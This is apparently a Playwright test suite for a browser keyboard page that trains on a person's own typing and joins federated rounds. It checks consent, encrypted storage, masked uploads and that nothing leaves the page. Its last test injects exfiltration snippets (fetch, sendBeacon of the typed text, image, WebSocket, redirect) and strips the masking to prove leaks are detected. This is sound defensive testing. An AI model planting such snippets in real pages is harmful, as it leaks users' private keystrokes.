"""The page of a federation in a browser: consent, training on own text, a round; leaks are noticed."""

from __future__ import annotations

import json
import queue
import re
import secrets
import threading
import time
import zlib
from collections.abc import Callable
from contextlib import suppress
from dataclasses import replace
from typing import Any

import pytest
from safetensors.numpy import load

from keyfed.errors import KeyfedError
from keyfed.keyboard import serve
from keyfed.keyboard.federated import write_federated
from keyfed.keyboard.site import files_of_site, files_served
from keyfed.private.secagg.keys import SIGNATURE_BYTES
from keyfed.run.plan import with_limits
from keyfed.run.remote.train import train_deployed
from keyfed.wire.messages import Rejected, unpack
from keyfed.wire.roster import Enrolled
from tests.faults.deployed import QUICK, federation, small_config, vocabulary, write_texts

from .conftest import LOADED, Visit
from .test_accessible import axe, findings

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
expect = sync_api.expect
TOKEN = "t" * 43
MOST_PACKED = 0.97  # of a masked vector's bytes that are left when it is packed; random ones do not get smaller
SGD = {"optimiser": "sgd", "lr": 0.5, "clip": 0.5, "epochs": 2, "batch_size": 3}
ALLOWED = {f"/federation/{path}" for path in ("about", "enrol", "next", "answer", "leave")}


class Endpoint:
    """The server's side for one page: a mailbox that holds a message until it is answered; everything is recorded."""

    def __init__(self, folder) -> None:
        import uvicorn

        listening = serve.listen(0)
        self.port: int = listening.getsockname()[1]
        self.address = f"http://127.0.0.1:{self.port}/"
        self.requests: list[str] = []
        self.answers: list[tuple[str, bytes]] = []  # kind and body of what the page sent
        self.refused: list[tuple[str, str]] = []
        self.identity = ""
        self.left = threading.Event()
        self.skew = 0  # seconds that this server's clock is ahead
        self.said: dict[str, Any] = {"format": "keyfed-web-1", "enrolling": True, "page": {}}
        self.page = json.loads((folder / "page.json").read_text())
        self.files = {f"/{path}" for path in files_of_site(folder)} | {"/"}
        self._posts: queue.Queue[tuple[str, str, bytes, queue.Queue[Any]]] = queue.Queue()
        self._open: dict[str, tuple[str, queue.Queue[Any]]] = {}
        self._site = serve.app_of(files_served(folder), ("127.0.0.1",), self.port, 80)
        self._server = uvicorn.Server(
            uvicorn.Config(self._app, interface="asgi3", log_level="error", lifespan="off", ws="none")
        )
        self._thread = threading.Thread(target=self._server.run, kwargs={"sockets": [listening]}, daemon=True)
        self._thread.start()

    def stop(self) -> None:
        self._server.should_exit = True
        self._thread.join(10)

    def handle(self, kind: str, body: bytes) -> bytes:
        """Send the page a message and wait for its answer (`transport.Handler`)."""
        answered: queue.Queue[Any] = queue.Queue()
        self._posts.put((secrets.token_hex(16), kind, body, answered))
        found = answered.get(timeout=60)
        if isinstance(found, Rejected):
            self.refused.append((found.reason, found.detail))
            raise found
        self.answers.append((kind, found))
        return bytes(found)

    async def _app(self, scope: Any, receive: Any, send: Any) -> None:
        import asyncio

        from starlette.requests import Request
        from starlette.responses import JSONResponse, Response

        self.requests.append(f"{scope['method']} {scope['path']}")
        if not scope["path"].startswith("/federation/"):
            await self._site(scope, receive, send)
            return
        request, path = Request(scope, receive), scope["path"].rpartition("/")[2]
        body, headers = await request.body(), request.headers
        if path not in ("about", "enrol"):
            assert re.fullmatch(r"Keyfed tab\.[0-9]{13}\.[0-9a-f]{128}", headers["authorization"])
        answer: Response = Response(status_code=204)
        if path == "about":
            answer = JSONResponse({**self.said, "now": time.time() + self.skew, "page": self.said["page"] or self.page})
        elif path == "enrol" and json.loads(body)["token"] == TOKEN and not self.identity:
            self.identity = json.loads(body)["identity"]
            answer = JSONResponse({"name": "tab", "roster": ""})
        elif path == "enrol":
            answer = JSONResponse({"error": "link", "reason": "unknown, used or expired"}, 403)
        elif path == "leave":
            self.left.set()
        elif path == "next" and "keyfed-id" not in headers:
            for _ in range(20):
                if not self._posts.empty():
                    id, kind, message, answered = self._posts.get()
                    self._open[id] = kind, answered
                    named = {"keyfed-kind": kind, "keyfed-id": id, "keyfed-deadline": str(time.time() + self.skew + 30)}
                    answer = Response(message, headers=named, media_type="application/octet-stream")
                    break
                await asyncio.sleep(0.05)
        elif path == "next":
            await asyncio.sleep(0.5)
        elif path == "answer":
            _, answered = self._open.pop(headers["keyfed-id"])
            error = headers.get("keyfed-error")
            answered.put(body if error is None else Rejected(error, headers["keyfed-reason"]))  # type: ignore[arg-type]
        await answer(scope, receive, send)


@pytest.fixture(scope="module")
def endpoint(exported, tmp_path_factory):
    for package in ("starlette", "uvicorn"):
        pytest.importorskip(package)
    folder = tmp_path_factory.mktemp("federated") / "site"
    write_federated(exported, folder)
    running = Endpoint(folder)
    yield running
    running.stop()


@pytest.fixture(scope="module")
def member(browser, endpoint):
    """A page whose owner has agreed, has typed and has joined; for the tests one after the other."""
    one = Visit(browser, endpoint)
    one.page.goto(f"{endpoint.address}#join={TOKEN}")
    one.wait("ready")
    yield one
    assert one.problems == []
    one.close()


def note(member: Visit) -> Any:
    return member.page.locator("#federated-note")


def kept(member: Visit) -> Any:
    return member.page.locator("#panel-body dd").first


def test_before_consent_nothing_is_kept_and_no_server_is_asked(member, endpoint):
    assert member.page.url == endpoint.address  # without the token
    member.type("good morning everybody\nthank you very much\n")
    member.page.wait_for_timeout(300)
    assert member.page.evaluate("indexedDB.databases()") == []
    assert member.page.evaluate("Object.keys(localStorage)") != ["keyfed.federated"]
    assert [request for request in endpoint.requests if "/federation/" in request] == []
    member.panel()
    expect(member.page.locator("#join")).to_be_disabled()
    member.close_panel()


def test_with_consent_what_is_typed_is_kept_sealed_and_can_be_seen(member):
    """Typed lines are kept, encrypted; what stood there before, what was pasted and what is typed incognito is not."""
    member.panel()
    member.page.locator("input[name=consent]").check()
    expect(kept(member)).to_have_text("0 lines of at most 4,000")
    member.close_panel()
    member.type("goodbye everybody from here\n")
    member.set("incognito", True)
    member.type("my secret sister likes mountains\n")
    member.set("incognito", False)
    member.page.evaluate(PASTE, "pasted words of others\n")
    member.type("we feel happy about the weather\nno\n")
    member.panel()
    expect(kept(member)).to_have_text("2 lines of at most 4,000")
    member.page.click("#show-lines")
    expect(member.page.locator("#kept-lines .word")).to_have_text(
        ["we feel happy about the weather", "goodbye everybody from here"]
    )
    stored = member.page.evaluate(STORED)
    assert stored["records"] == 2
    assert [word for word in ("goodbye", "happy", "secret", "pasted") if word in stored["bytes"]] == []
    assert stored["readable"] == []
    member.page.get_by_label("Forget this line").first.click()
    expect(kept(member)).to_have_text("1 lines of at most 4,000")
    member.close_panel()


PASTE = """(text) => {
  const area = document.getElementById('text'), clipboardData = new DataTransfer();
  clipboardData.setData('text/plain', text);
  area.dispatchEvent(new ClipboardEvent('paste', {clipboardData, bubbles: true, cancelable: true}));
  area.setRangeText(text, area.selectionStart, area.selectionEnd, 'end');
  area.dispatchEvent(new InputEvent('input', {inputType: 'insertFromPaste', bubbles: true}));
  return new Promise((done) => setTimeout(done, 50));
}"""
STORED = """async () => {
  const database = await new Promise((done) => {
    const request = indexedDB.open('keyfed.federated');
    request.onsuccess = () => done(request.result);
  });
  const all = async (store, what = 'getAll') => new Promise((done) => {
    const request = database.transaction(store).objectStore(store)[what]();
    request.onsuccess = () => done(request.result);
  });
  const records = await all('text'), keys = [...await all('page'), ...(await all('client')).map((value) => value?.key)];
  const readable = await Promise.all(keys.filter((key) => key instanceof CryptoKey).map((key) =>
    crypto.subtle.exportKey(key.type === 'private' ? 'pkcs8' : 'raw', key).then(() => key.type, () => null)));
  const bytes = records.map(({sealed}) => new TextDecoder('latin1').decode(sealed)).join(' ');
  const names = {page: await all('page', 'getAllKeys'), client: await all('client', 'getAllKeys')};
  database.close();
  return {records: records.length, readable: readable.filter(Boolean), keys: readable.length, bytes, names};
}"""


def test_tuning_changes_the_strip_without_a_reload_sends_nothing_and_is_undone(member, endpoint):
    """A line that the model knows nothing of, typed often: after tuning its words come first; undone, they do not."""
    member.page.locator("#text").fill("")
    member.page.keyboard.insert_text("weather likes school mountains\n" * 24)
    member.set("source", "network")
    before = after_words(member, "weather ", "likes")
    endpoint.requests.clear()
    member.panel()
    member.page.click("#tune")
    expect(member.page.locator("#looked")).to_contain_text(
        "of your held-back words among the first three", timeout=LOADED
    )
    expect(note(member)).to_have_text("The strip is of your own model now. Nothing was sent.")
    member.close_panel()
    tuned = after_words(member, "weather ", "likes")
    assert (before, tuned) == (False, True)
    assert [request for request in endpoint.requests if "/federation/" in request] == []
    member.reload()
    assert after_words(member, "weather ", "likes") is True
    member.panel()
    member.page.click("#undo")
    member.close_panel()
    assert after_words(member, "weather ", "likes") is False


def after_words(member, typed, word):
    """Whether the strip offers a word, without what this person uses often."""
    member.page.locator("#text").fill("")
    member.press("Enter")
    member.type(typed)
    member.page.wait_for_timeout(500)
    return word in member.shown()


# ---------------------------------------------------------------- a round, and what leaves the page


def outside(visit: Visit, endpoint: Endpoint) -> list[str]:
    """Return every request of a page that is none for the page's own files or for the endpoint."""
    own = {f"{endpoint.address.rstrip('/')}{path}" for path in endpoint.files | ALLOWED}
    return [url for url in visit.requests if url not in own]


def unmasked(endpoint: Endpoint) -> list[str]:
    """Return what an endpoint got that should be masked and is not: masked bytes look random, and cannot be packed."""
    found = []
    for kind, body in endpoint.answers:
        if kind == "upload":
            masked = load(unpack(body)[1][:-SIGNATURE_BYTES])["masked"].tobytes()
            share = len(zlib.compress(masked, 9)) / len(masked)
            found += [f"{len(masked)} bytes, {share:.2f} when packed"] if share < MOST_PACKED else []
    return found


class Said:
    """A listener that hears nothing."""

    def say(self, line: str) -> None: ...
    def start(self, *given: Any) -> None: ...
    def round(self, *given: Any) -> None: ...


def federate(
    endpoint: Endpoint, visit: Visit, folder: Any, rounds: int, look: Callable[[], object] = lambda: None
) -> dict[str, Any]:
    """Run a secure federation of four Python clients and the page; return its result.

    Args:
      look: called now and then.
    """
    files = write_texts(folder / "texts", 5)
    vocab, path = vocabulary(folder)
    config = small_config(folder / "texts", path, "fedavg", secure=True, rounds=rounds, cohort=5, **SGD)
    transport, roster = federation(folder / "clients", files[1:], named=lambda path: path.name)
    transport.handlers["tab"] = endpoint  # type: ignore[assignment]
    roster.write({"tab": Enrolled(endpoint.identity, "00" * 32, "2026-01-01T00:00:00+00:00")})
    patience, found = replace(QUICK, answer=30, quorum=5), {}

    def run() -> None:
        given = with_limits(config), vocab, folder / "run", transport, roster, Said()
        with suppress(KeyfedError):  # a run whose sums do not open
            found.update(train_deployed(*given, patience=patience))

    thread = threading.Thread(target=run)
    thread.start()
    for _ in range(600):
        visit.page.wait_for_timeout(100)  # its events are heard meanwhile
        look()
        if not thread.is_alive():
            break
    thread.join(1)
    return found


def joined(visit: Visit, folder: Any) -> None:
    """Type what the fifth client has, and join."""
    visit.page.locator("#text").fill("")
    visit.press("Enter")
    visit.page.keyboard.insert_text(write_texts(folder / "texts", 5)[0].read_text())
    visit.page.evaluate("(hash) => { location.hash = hash; }", f"join={TOKEN}")
    visit.panel()
    visit.page.click("#join")
    expect(visit.page.locator("#rounds-note")).to_contain_text("waits for a round", timeout=LOADED)


def test_it_takes_part_and_only_masked_sums_leave(member, endpoint, tmp_path):
    """Two rounds with four Python clients; the final model comes, is looked at, and is in the strip."""
    joined(member, tmp_path)
    expect(note(member)).to_have_text("Joined as tab.")
    endpoint.answers.clear()
    member.page.locator("input[name=preview]").check()
    previews: list[str] = []

    def decide() -> None:
        """Look at every upload before it is sent; do not send the last one, which counts the validation text."""
        if not member.page.locator("#send").is_visible():
            return
        sent = [kind for kind, _ in endpoint.answers].count("upload")
        previews.append(member.page.text_content("#sent"))
        assert sent == min(len(previews), 4) - 1, "nothing is sent before it is looked at"
        member.page.click("#send" if len(previews) != 4 else "#do-not-send")
        expect(member.page.locator("#send")).to_be_hidden()

    found = federate(endpoint, member, tmp_path, rounds=2, look=decide)
    assert [found["rounds"], found["abandoned"]] == [2, 0]
    kinds = [kind for kind, _ in endpoint.answers]
    assert (kinds.count("upload"), kinds[-1]) == (4, "bye")  # calibration, two rounds, the test
    assert endpoint.refused == [("not now", "the page's owner did not send this upload")]
    assert all("waits for your word" in preview for preview in previews)
    assert "round 1, calibration" in previews[0]
    assert "round 2, upload" in previews[2]
    assert re.search(r"Trained on[0-9]+ tokens", previews[2])
    masked = load(unpack(dict(endpoint.answers)["upload"])[1][:-SIGNATURE_BYTES])["masked"].tobytes()
    assert masked[:16].hex() in previews[-1]  # what was shown is what was sent
    assert unmasked(endpoint) == []
    assert outside(member, endpoint) == []
    expect(member.page.locator("#sent")).to_contain_text("5 clients; the sum opens with")
    said = "1 run without differential privacy, of which no ε is claimed"
    expect(member.page.get_by_label("Federation", exact=True)).to_contain_text(said)
    expect(note(member)).to_have_text("The strip is of the federation's model now (its final model).", timeout=LOADED)
    assert "cat" in words_after(member, "the ")  # of the run's vocabulary; the model that the page came with has none
    assert [key for key in member.page.evaluate(STORED)["names"]["client"] if key == "identity"]


def words_after(member: Visit, typed: str) -> list[str]:
    """Return what the strip offers after a text, and while its first letter is typed."""
    member.close_panel()
    member.page.locator("#text").fill("")
    member.press("Enter")
    found = []
    for key in (*typed, "c"):
        member.type(key)
        member.page.wait_for_timeout(150)
        found += member.shown()
    return found


def test_what_goes_wrong_is_said_in_one_line(member, endpoint):
    member.panel()
    for fragment, says in {
        "join=short": "This link is damaged: ask for a new one.",
        f"join={TOKEN}&server=https://elsewhere.test": "and this page may speak to http://127.0.0.1",
    }.items():
        member.page.evaluate("(hash) => { location.hash = hash; }", fragment)
        expect(note(member)).to_contain_text(says)
        assert "#" not in member.page.url
    member.page.click("#stop-rounds")
    expect(note(member)).to_have_text("Stopped: this page does not take part.")
    member.page.evaluate("(hash) => { location.hash = hash; }", f"join={TOKEN}")
    member.page.click("#join")
    expect(note(member)).to_have_text("This link is used, expired or wrong: ask for a new one.")
    for change, says in [
        ({"page": {"version": "9.9.9", "hash": "0"}}, "the server of 9.9.9: reload the page, or get it again."),
        ({"format": "keyfed-web-9"}, "The server speaks another protocol than this page"),
    ]:
        before = endpoint.said
        endpoint.said = {**before, **change}
        member.page.click("#go")
        expect(note(member)).to_contain_text(says)
        member.page.click("#stop-rounds")
        endpoint.said = before
    endpoint.skew = 300
    member.page.click("#go")
    expect(note(member)).to_have_text(
        re.compile(r"This device's clock is (299|300) seconds slow; the server's is used\.")
    )
    endpoint.skew = 0


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_serious_in_the_panel(member, scheme):
    """Under axe-core, with lines, an upload and a link on show."""
    member.page.evaluate(axe.AXE_SCRIPT)
    member.page.emulate_media(color_scheme=scheme)
    if member.page.locator("#kept-lines").is_hidden():
        member.page.click("#show-lines")
    member.page.locator("#kept-lines li").first.wait_for()
    assert member.page.locator("#join").is_visible()
    assert member.page.locator("#sent").is_visible()
    assert findings(member) == []


def test_stop_leave_and_forget(member, endpoint):
    member.page.click("#leave")
    member.page.click("#leave")
    expect(note(member)).to_contain_text("the server has taken this page off its roster")
    assert endpoint.left.wait(5)
    member.page.click("#forget-kept")
    member.page.click("#forget-kept")
    expect(kept(member)).to_have_text("0 lines of at most 4,000")
    stored = member.page.evaluate(STORED)
    assert (stored["records"], stored["names"]["client"]) == (0, [])
    assert not {"tuned", "client"} & set(stored["names"]["page"])
    before = len(endpoint.requests)
    member.page.wait_for_timeout(1_500)
    assert [request for request in endpoint.requests[before:] if "/federation/" in request] == []
    member.page.locator("input[name=consent]").uncheck()
    member.close_panel()
    member.type("nothing of this is kept\n")
    member.panel()
    expect(note(member)).to_contain_text("Nothing more is kept or trained.")
    assert member.page.evaluate(STORED)["records"] == 0


TYPED = "document.getElementById('text').addEventListener('input', ({target: {value}}) => {"
LEAKS = {  # in federated/page.mjs, when its name is typed; the worker's goes to the page's own server
    "fetch": "fetch('ELSEWHERE?fetch', {mode: 'no-cors'}).catch(() => 0)",
    "image": "new Image().src = 'ELSEWHERE?image'",
    "beacon": "navigator.sendBeacon('ELSEWHERE?beacon', value)",
    "socket": "new WebSocket('ws://localhost:PORT/?socket')",
    "query": "fetch('/federation/about?query=' + value.length).catch(() => 0)",
    "away": "location.href = 'ELSEWHERE?away'",
}
PLAIN = (
    ("await addMask(sent, await pairKey", "void (sent, await pairKey"),
    ("await addMask(sent, await selfKey", "void (sent, await selfKey"),
)


def test_every_leak_is_noticed(browser, endpoint, tmp_path):
    """The checks above are worth it: without its policy a page that leaks fails them, in whatever way it does."""
    leaky = Visit(browser, endpoint, bypass_csp=True)
    elsewhere = f"http://localhost:{endpoint.port}/"
    leaks = [f"{TYPED} if (value.endsWith('{name}')) {{ {leak}; }} }});" for name, leak in LEAKS.items()]
    added = "\n".join(leaks).replace("ELSEWHERE", elsewhere).replace("PORT", str(endpoint.port))

    def changed(route: Any) -> None:
        response = route.fetch()
        text = response.text()
        if route.request.url.endswith("member.mjs"):
            for old, new in PLAIN:
                assert text.count(old) == 1
                text = text.replace(old, new)
        else:
            text += added
        route.fulfill(response=response, body=text)

    leaky.context.route("**/secure/member.mjs", changed)
    leaky.context.route("**/federated/page.mjs", changed)
    endpoint.identity = ""
    leaky.page.goto(f"{endpoint.address}#join={TOKEN}")
    leaky.wait("ready")
    leaky.panel()
    leaky.page.locator("input[name=consent]").check()
    leaky.close_panel()
    joined(leaky, tmp_path)
    endpoint.answers.clear()
    assert outside(leaky, endpoint) == []
    federate(endpoint, leaky, tmp_path, rounds=1)
    assert unmasked(endpoint)
    leaky.close_panel()
    for name in LEAKS:
        leaky.page.locator("#text").fill("")
        leaky.type(name)
        leaky.page.wait_for_timeout(300)
    noticed = outside(leaky, endpoint)
    leaky.close()
    assert [name for name in LEAKS if not any(name in request for request in noticed)] == []
